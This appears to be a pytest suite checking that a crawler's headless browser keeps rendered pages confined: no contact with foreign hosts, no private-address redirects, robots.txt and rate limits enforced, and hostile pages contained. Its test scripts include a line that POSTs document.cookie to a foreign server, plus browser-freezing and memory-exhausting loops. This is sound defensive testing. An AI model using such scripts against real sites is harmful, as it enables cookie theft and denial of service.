"""What a drawn page may not do: leave its site, pass robots.txt by, spend more than its share, or hold up the crawl."""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest
from drawn_site import DAYS, DRAW_ROWS, FETCHING, ROWS, audit, audit_all, data, frame, portal_server, records
from fetch_server import Servers, answer, polite, redirect

from crawler import drawing
from crawler.browser import Rendering
from crawler.evidence import Outcome

pytestmark = pytest.mark.browser

INLINE = f"{DRAW_ROWS} draw({json.dumps(records())});"


def processes() -> list[int]:
    """Chromium and driver processes below this one."""
    listed = subprocess.run(["ps", "-eo", "pid=,ppid=,args="], capture_output=True, text=True, check=True).stdout
    rows = [
        (int(pid), int(parent), args) for pid, parent, args in (line.split(None, 2) for line in listed.splitlines())
    ]
    mine = {os.getpid()}
    for _ in range(6):
        mine |= {pid for pid, parent, _ in rows if parent in mine}
    return [pid for pid, _, args in rows if pid in mine and ("chrom" in args or "playwright" in args)]


def test_other_hosts_are_never_contacted(servers: Servers) -> None:
    foreign = servers.open({"*": answer("secret", access_control_allow_origin="*")})
    script = f"""
      {INLINE}
      const far = '{foreign.url}';
      fetch(far + '/fetch').catch(() => 0);
      fetch(far + '/post', {{method: 'POST', body: document.cookie, mode: 'no-cors'}}).catch(() => 0);
      navigator.sendBeacon(far + '/beacon', 'x');
      new Image().src = far + '/image.png';
      document.head.append(Object.assign(document.createElement('script'), {{src: far + '/script.js'}}));
      document.head.append(Object.assign(document.createElement('link'), {{rel: 'stylesheet', href: far + '/style.css'}}));
      document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: far + '/prefetch'}}));
      document.body.append(Object.assign(document.createElement('iframe'), {{src: far + '/frame'}}));
      try {{ new WebSocket(far.replace('http', 'ws') + '/socket'); }} catch (error) {{}}
      try {{ new EventSource(far + '/events'); }} catch (error) {{}}
      try {{ new Worker(URL.createObjectURL(new Blob([`fetch('${{far}}/worker')`]))); }} catch (error) {{}}
      try {{ navigator.serviceWorker.register('/sw.js'); }} catch (error) {{}}
      window.open(far + '/popup'); const a = document.createElement('a'); a.href = far + '/click'; a.target = '_blank';
      document.body.append(a); a.click();
      const d = document.createElement('a'); d.href = '/file.zip'; d.download = 'x'; document.body.append(d); d.click();
      setTimeout(() => {{ location.href = far + '/away'; }}, 100);
    """
    server = portal_server(servers, frame("通知公告", ROWS, script))
    _, column = audit(server)
    assert foreign.paths() == []
    assert column.newest == DAYS[0]


def test_a_redirect_to_a_private_address_is_not_followed(servers: Servers) -> None:
    inside = servers.open({"*": data(records())})
    routes = {"/data/list.json": redirect(f"{inside.url}/data/list.json")}
    server = portal_server(servers, frame("通知公告", ROWS, FETCHING), routes)
    _, column = audit(server)
    assert inside.paths() == []
    assert column.outcome is Outcome.NEEDS_RENDERING


def test_robots_hold_for_what_scripts_ask_for(servers: Servers) -> None:
    routes = {
        "/robots.txt": answer("User-agent: *\nDisallow: /data/\n", content_type="text/plain"),
        "/data/list.json": data(records()),
    }
    server = portal_server(servers, frame("通知公告", ROWS, FETCHING), routes)
    _, column = audit(server, politeness=polite(obey_robots=True))
    assert "/data/list.json" not in server.paths()
    assert column.outcome is Outcome.NEEDS_RENDERING
    assert "仍未见信息列表" in column.reason


def test_the_turns_of_a_host_hold_for_what_scripts_ask_for(servers: Servers) -> None:
    asks = "".join(f"fetch('/data/{number}.json');" for number in range(4))
    server = portal_server(servers, frame("通知公告", ROWS, f"{INLINE} {asks}"), {"*": data([])})
    audit(server, politeness=polite(delay=0.3, concurrency=1))
    asked = [one.at for one in server.log if one.path.startswith("/data/")]
    assert len(asked) == 4
    assert all(later - earlier > 0.25 for earlier, later in itertools.pairwise(asked))
    assert server.most_busy == 1


HOSTILE = {
    "a loop without end": ("while (true) {}", "没有停下来"),
    "a storm of dialogs": ("while (true) { alert('x'); }", "没有停下来"),
    "a huge document": (
        "const b = document.body; for (let i = 0; i < 400000; i++) b.append(document.createElement('i'));",
        "；",
    ),
    "a huge text": ("document.body.append('x'.repeat(9e6));", "；"),
    "all the memory": ("const a = []; while (true) a.push(new Array(1e6).fill(Math.random()));", "；"),
}


def test_pages_that_cannot_be_drawn_are_unverifiable_and_stop_nobody(
    servers: Servers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(drawing, "_READ_SECONDS", 3.0)
    mention = "const list = document.getElementById('rows');"
    columns = {name: frame("通知公告", ROWS, f"{mention} {script}") for name, (script, _) in HOSTILE.items()}
    seen = audit_all(servers, {**columns, "a quiet page": frame("通知公告", ROWS, INLINE)}, Rendering(timeout=5))
    assert seen["a quiet page"].newest == DAYS[0]
    for name, (_, words) in HOSTILE.items():
        assert (name, seen[name].outcome) == (name, Outcome.NEEDS_RENDERING)
        assert words in seen[name].reason, name
    assert processes() == []


RESTLESS = {
    "asks without end": "setInterval(() => fetch('/data/tick.json?' + Math.random()), 50);",
    "reloads itself again and again": "setTimeout(() => location.reload(), 200);",
    "a clock": "setInterval(() => { document.title = document.body.dataset.x = Date.now(); }, 10);",
    "pesters": "for (let i = 0; i < 30; i++) { alert(i); confirm(i); prompt(i); window.open('/x' + i); }",
    "spoils built-ins": "Array.prototype.map = String.prototype.replace = Element.prototype.cloneNode = null;",
}


def test_restless_pages_are_read_all_the_same(servers: Servers) -> None:
    columns = {name: frame("通知公告", ROWS, f"{INLINE} {script}") for name, script in RESTLESS.items()}
    seen = audit_all(servers, columns, Rendering(timeout=15))
    assert {name: column.newest for name, column in seen.items()} == dict.fromkeys(RESTLESS, DAYS[0])


def test_a_document_that_grows_too_large_is_not_read(servers: Servers) -> None:
    script = f"{FETCHING} document.body.append('x'.repeat(300000));"
    server = portal_server(servers, frame("通知公告", ROWS, script), {"/data/list.json": data(records())})
    _, column = audit(server, politeness=polite(max_page_bytes=100_000))
    assert column.outcome is Outcome.NEEDS_RENDERING
    assert "绘制后的页面过大" in column.reason


def test_a_page_gets_so_many_answers_and_no_more(servers: Servers, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(drawing, "MAX_REQUESTS", 5)
    script = f"{INLINE} for (let i = 0; i < 40; i++) fetch('/data/' + i);"
    server = portal_server(servers, frame("通知公告", ROWS, script), {"*": data([])})
    _, column = audit(server)
    assert column.newest == DAYS[0]
    assert len([path for path in server.paths() if path.startswith("/data/")]) == 5


def test_a_site_has_so_many_drawn_pages_and_no_more(servers: Servers) -> None:
    server = portal_server(servers, frame("通知公告", ROWS, FETCHING), {"/data/list.json": data(records())})
    _, column = audit(server, rendering=Rendering(max_pages=1, timeout=20))
    assert column.outcome is Outcome.FOUND
    old = portal_server(servers, frame("通知公告", ROWS, FETCHING), {"/data/list.json": data([])})
    _, column = audit(old, rendering=Rendering(max_pages=1, timeout=20))
    assert column.outcome is Outcome.NEEDS_RENDERING


def test_a_killed_browser_is_started_once_more(servers: Servers) -> None:
    def kill() -> None:
        for _ in range(100):
            if found := processes():
                time.sleep(1.0)
                for pid in found:
                    with contextlib.suppress(ProcessLookupError):
                        os.kill(pid, signal.SIGKILL)
                return
            time.sleep(0.1)

    killer = threading.Thread(target=kill)
    killer.start()
    slow = f"{DRAW_ROWS} setTimeout(() => fetch('/data/list.json').then(r => r.json()).then(draw), 400);"
    server = portal_server(servers, frame("通知公告", ROWS, slow), {"/data/list.json": data(records())})
    _, column = audit(server)
    killer.join()
    assert column.outcome in (Outcome.FOUND, Outcome.NEEDS_RENDERING)
    assert processes() == []


def test_a_browser_that_does_not_start_costs_the_column_only(servers: Servers, tmp_path: Path) -> None:
    broken = tmp_path / "chromium"
    broken.write_text("#!/bin/sh\nexit 7\n", encoding="utf-8")
    broken.chmod(0o755)
    server = portal_server(servers, frame("通知公告", ROWS, FETCHING), {"/data/list.json": data(records())})
    site, column = audit(server, rendering=Rendering(browser=str(broken)))
    assert column.outcome is Outcome.NEEDS_RENDERING
    assert "无法启动" in column.reason
    assert site.columns


def test_an_answer_of_another_host_of_the_site_may_be_read(servers: Servers) -> None:
    other = servers.open({"/data/list.json": data(records())})
    script = f"{DRAW_ROWS} fetch('{other.url}/data/list.json').then(r => r.json()).then(draw);"
    server = portal_server(servers, frame("通知公告", ROWS, script))
    _, column = audit(server, hosts=(f"127.0.0.1:{other.port}",))
    assert column.newest == DAYS[0]
